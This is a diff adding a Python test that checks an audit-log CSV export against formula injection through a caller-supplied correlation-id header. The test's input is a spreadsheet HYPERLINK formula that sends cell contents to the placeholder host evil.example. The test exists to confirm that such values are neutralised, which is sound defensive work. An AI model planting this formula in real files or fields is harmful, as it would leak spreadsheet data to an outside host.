@@ -280,6 +280,21 @@ async def test_audit_export_writes_filtered_csv(tp, admin):
             "client_id", "correlation_id", "ip_address"} <= set(rows[0])
 
 
+async def test_a_csv_export_opens_caller_text_as_text_not_as_a_formula(tp, admin):
+    """CSV injection (issue 13, low): a correlation id is the caller's text, and it reaches the audit log."""
+    client = await tp.new_client(admin)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    await tp.http.get(f"/v1/clients/{client['id']}", headers={**admin, "X-Correlation-ID": formula})
+    now = datetime.now(timezone.utc)
+    export = await _finished_export(tp, admin, {
+        "start_date": _iso(now - timedelta(hours=1)), "end_date": _iso(now + timedelta(hours=1)), "format": "csv",
+        "filters": {"client_id": client["id"]}})
+    rows = list(csv.DictReader(io.StringIO((await tp.http.get(export["download_url"], headers=admin)).text)))
+    correlation_ids = {r["correlation_id"] for r in rows if r["correlation_id"]}
+    assert correlation_ids == {"'" + formula.replace(" ", "")}  # the middleware keeps printable ASCII only
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values() if cell)
+
+
 async def test_bad_export_requests(tp, admin):
     now = _iso(datetime.now(timezone.utc))
     for body in ({"start_date": now, "end_date": "2000-01-01T00:00:00Z"},
